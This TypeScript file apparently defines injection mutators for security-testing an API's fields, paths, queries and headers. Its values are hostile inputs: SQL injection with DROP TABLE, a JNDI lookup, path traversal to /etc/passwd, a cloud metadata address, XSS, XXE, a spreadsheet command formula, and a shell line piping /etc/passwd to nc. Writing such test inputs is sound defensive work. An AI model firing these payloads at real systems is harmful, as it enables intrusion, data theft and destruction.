import { respelling } from '../mutator.ts';

const everywhere = { on: ['field', 'path', 'query', 'header'] } as const;

/** Texts that mean something to a program that is not careful. */
export const injectionMutators = respelling('injection', everywhere, {
  'key-separator': ['holds the separator of keys', (old) => `${old}#STATE`],
  'key-of-another': ['is the key of another tenant’s item', () => 'T#shop-b#CUS#cus_1'],
  prototype: ['is __proto__', () => '__proto__'],
  'constructor-name': ['is constructor', () => 'constructor'],
  'to-string': ['is toString', () => 'toString'],
  'has-own-property': ['is hasOwnProperty', () => 'hasOwnProperty'],
  undefined: ['is the text undefined', () => 'undefined'],
  null: ['is the text null', () => 'null'],
  sql: ['is a piece of SQL', (old) => `${old}' OR '1'='1'; DROP TABLE policies; --`],
  operator: ['is an operator of another database', () => '{"$ne":null}'],
  placeholder: ['is a placeholder of an expression', () => ':v'],
  'attribute-name': ['is a name of an expression', () => '#pk'],
  condition: ['is a condition of an expression', () => 'attribute_not_exists(pk)'],
  template: ['is a section of a template', (old) => `${old}{{{constructor}}}{{#a}}{{/b}}`],
  'open-template': ['opens a tag of a template', (old) => `${old}{{`],
  interpolation: ['is an interpolation', () => '$' + '{7*7}#' + '{7*7}<%= 7*7 %>'],
  lookup: ['is a lookup of a logger', () => '$' + '{jndi:ldap://example.test/a}'],
  traversal: ['climbs out of a folder', () => '../../../../etc/passwd'],
  'encoded-traversal': ['climbs out of a folder, encoded', () => '%2e%2e%2f%2e%2e%2fetc/passwd'],
  'file-address': ['is the address of a file', () => 'file:///etc/passwd'],
  'metadata-address': ['is the address of a machine’s metadata', () => 'http://169.254.169.254/latest/meta-data/'],
  script: ['is a script', () => '<script>alert(1)</script>'],
  entity: ['is an entity of XML', () => '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///a">]><a>&x;</a>'],
  format: ['is a format', () => '%s%n%x%d%999999d'],
  formula: ['is a formula of a spreadsheet', () => '=cmd|"/C calc"!A1'],
  shell: ['is a command of a shell', () => '; cat /etc/passwd | nc example.test 1 $(id) `id`'],
  yaml: ['is a tag of YAML', () => '!!js/function "x"'],
  'json-inside': ['is JSON', () => '{"a":[1,{"__proto__":{"admin":true}}]}'],
  pointer: ['is a JSON Pointer', () => '/a~0b/~1c/-'],
  pattern: ['is a pattern', () => '(a+)+$|.*[^'],
  wildcard: ['is a wildcard', () => '*'],
  reference: ['is a reference of JSON Schema', () => '#/components/schemas/Policy'],
});
